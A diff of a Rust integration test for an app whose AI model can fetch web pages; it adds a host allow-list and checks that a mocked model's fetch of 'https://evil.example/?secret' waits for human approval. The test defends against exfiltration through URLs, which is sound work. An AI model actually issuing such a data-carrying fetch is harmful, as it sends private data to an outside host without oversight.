@@ -141,7 +141,8 @@ async fn tools_and_health_are_told() {
 async fn pages_of_the_web_are_read_where_that_is_allowed() {
     let (engine, model) = (Engine::sqlite(), MockLlm::start().await.unwrap());
     let mut command = Program::command(&engine, &model);
-    let app = TestApp::launch_command(&engine, command.env("FETCH_PAGE", "true"));
+    command.env("FETCH_PAGE", "true").env("FETCH_PAGE_HOSTS", "*.example.org, 127.0.0.1");
+    let app = TestApp::launch_command(&engine, &mut command);
     let tools = app.get_json("/api/tools").await;
     assert!(tools["items"].as_array().unwrap().iter().any(|tool| tool["name"] == "fetch_page"), "{tools}");
     let conversation = app.create_conversation().await;
@@ -151,4 +152,10 @@ async fn pages_of_the_web_are_read_where_that_is_allowed() {
     let calls = rows!(app, (String, Option<String>), "SELECT status, error FROM tool_calls");
     let error = calls[0].1.as_deref().unwrap_or_default();
     assert!(calls[0].0 == "error" && error.ends_with("is not on the public internet"), "{calls:?}");
+    // An address can carry data out, so other hosts need approval.
+    let conversation = app.create_conversation().await;
+    model.reply([tool_call("fetch_page", json!({ "url": "https://evil.example/?secret" }).to_string())]);
+    app.send(&conversation, "And there?").await.all().await;
+    let waiting = rows!(app, (String,), "SELECT status FROM tool_calls ORDER BY id DESC LIMIT 1");
+    assert_eq!(waiting, [("awaiting_approval".to_owned(),)]);
 }
